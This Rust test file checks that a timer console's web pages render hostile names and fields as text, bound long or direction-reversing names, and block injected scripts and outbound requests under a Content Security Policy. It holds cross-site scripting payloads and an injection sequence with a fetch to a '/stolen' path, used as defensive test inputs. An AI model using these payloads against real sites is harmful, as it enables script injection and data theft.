//! What the page must not do, whoever wrote what it shows.

use std::sync::atomic::Ordering::SeqCst;

use kit::runner::Story;
use serde_json::json;

use crate::browser::Browser;
use crate::node::{Node, callback_server, timer};

pub const STORIES: &[Story] = &[
    ("safety::text_of_strangers_stays_text", text_of_strangers_stays_text),
    ("safety::names_that_are_long_or_turn_text_round_are_bounded", names_are_bounded),
    ("safety::what_is_injected_does_not_run", what_is_injected_does_not_run),
];

fn text_of_strangers_stays_text() {
    let node = Node::start("");
    let (host, _) = callback_server(200);
    let name = "<img src=x onerror=window.hacked=1>";
    let tag = "<i onclick=hacked()>T</i>";
    let mut hostile = timer(600.0, host);
    hostile["callback"]["http"]["uri"] = json!(format!("http://{host}/%3Cscript%3E?'\"&<b>"));
    hostile["callback"]["http"]["opaque"] = json!("<script>window.hacked = 1</script>");
    hostile["statistics"]["tag-info"][0]["type"] = json!(tag);
    // Where the API takes no such URI, the others stay.
    let encoded: String = name.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let answer = kit::client::request(
        node.address,
        "PUT",
        &format!("/timers/by-name/{encoded}"),
        &hostile.to_string(),
    );
    if answer.expect("an answer").status != 200 {
        hostile["callback"]["http"]["uri"] = json!(format!("http://{host}/%3Cscript%3E?'&"));
        node.create_named(&encoded, &hostile);
    }
    let path = node.document(&format!("/timers/by-name/{encoded}"))["location"].clone();
    let id = path.as_str().expect("a path").trim_start_matches("/timers/").to_owned();
    let browser = Browser::open(&node.console());
    for (hash, title) in [("/timers".to_owned(), "Timers"), (format!("/timer/{id}"), "Timer")] {
        browser.page(&hash, title);
        browser.wait_for_text(name);
        browser.wait_for_text(tag);
        let made =
            "return document.querySelectorAll('main img, main script, main i, main b').length";
        assert_eq!(browser.script(made, &[]), 0);
    }
    browser.wait_for_text("<script>window.hacked = 1</script>");
    // What stands in the address is text of strangers, too.
    for hash in ["/timer/%3Cimg%20src%3Dx%3E", "/timer/%", "/timers?tag=%3Cb%3E", "/none/%00"] {
        browser.script("location.hash = arguments[0]", &[json!(hash)]);
        browser.wait("a page", "return document.querySelector('main h1') !== null");
    }
    assert_eq!(browser.script("return window.hacked ?? null", &[]), json!(null));
}

fn names_are_bounded() {
    let node = Node::start("");
    let (host, _) = callback_server(200);
    let long = "n".repeat(256);
    node.create_named(&long, &timer(600.0, host));
    let mut turned = timer(600.0, host);
    turned["callback"]["http"]["opaque"] = json!("line\nturned \u{202e}text");
    let turned = node.create_named("turned%E2%80%AEround", &turned);
    let browser = Browser::open(&node.console());
    browser.page("/timers", "Timers");
    browser.wait_for_text("turned\\u{202e}round");
    browser.wait_for_text(&long);
    for width in [1_280, 420] {
        browser.size(width);
        let beyond = "return Math.max(...[document.documentElement,
            ...document.querySelectorAll('main .table')]
            .map((one) => one.scrollWidth - one.clientWidth))";
        let beyond = browser.script(beyond, &[]).as_i64().expect("a number");
        assert!(beyond <= 0, "at {width}: {beyond} beyond");
        browser.picture(&format!("long-name-{width}"));
    }
    browser.page(&format!("/timer/{}", turned.trim_start_matches("/timers/")), "Timer");
    browser.wait_for_text("turned\\u{202e}round");
    browser.wait_for_text("line\nturned \\u{202e}text");
    let raw = "return document.body.innerText.includes('\\u202e')";
    assert_eq!(browser.script(raw, &[]), json!(false));

    browser.press("Token");
    browser.fill("dialog input", "pasted\u{200b}token\u{e007}");
    browser.wait_for_text("a character that no token has");
    assert_eq!(browser.script("return sessionStorage.length", &[]), json!(0));
}

fn what_is_injected_does_not_run() {
    let node = Node::start("");
    let (other, called) = callback_server(200);
    let browser = Browser::open(&node.console());
    browser.page("/", "Overview");
    // Each in the way of one who could write into the page.
    let inject = "
        const other = arguments[0];
        const tries = [
            () => { const it = document.createElement('script'); it.textContent = 'hacked = 1';
                document.body.append(it); },
            () => { const it = document.createElement('script'); it.src = other;
                document.body.append(it); },
            () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hacked=1>'); },
            () => { document.body.setAttribute('onclick', 'hacked = 1'); document.body.click(); },
            () => { const it = document.createElement('a'); it.href = 'javascript:hacked = 1';
                document.body.append(it); it.click(); },
            () => { eval('hacked = 1'); },
            () => { const it = new Image(); it.src = other; document.body.append(it); },
            () => { const it = document.createElement('iframe'); it.src = other;
                document.body.append(it); },
            () => { const it = document.createElement('style'); it.textContent = '* { color: red }';
                document.body.append(it); },
        ];
        // Later, as the page itself: what a WebDriver runs may evaluate texts.
        setTimeout(() => {
            for (const one of tries) { try { one(); } catch { } }
            window.tried = true;
        });
        return null";
    let url = json!(format!("http://{other}/stolen"));
    browser.script(inject, std::slice::from_ref(&url));
    let fetched = "window.outside = 'waits';
        fetch(arguments[0], { mode: 'no-cors' }).then(() => { window.outside = 'sent'; },
            () => { window.outside = 'blocked'; }); return null";
    browser.script(fetched, &[url]);
    browser.wait("the tries", "return window.tried === true");
    browser.wait("the block", "return window.outside === 'blocked'");
    assert_eq!(browser.script("return window.hacked ?? null", &[]), json!(null));
    let color = "return getComputedStyle(document.querySelector('h1')).color";
    assert_ne!(browser.script(color, &[]), "rgb(255, 0, 0)");
    assert_eq!(called.load(SeqCst), 0, "nothing goes elsewhere");
    assert!(browser.errors().iter().any(|error| error.contains("Content Security Policy")));
}
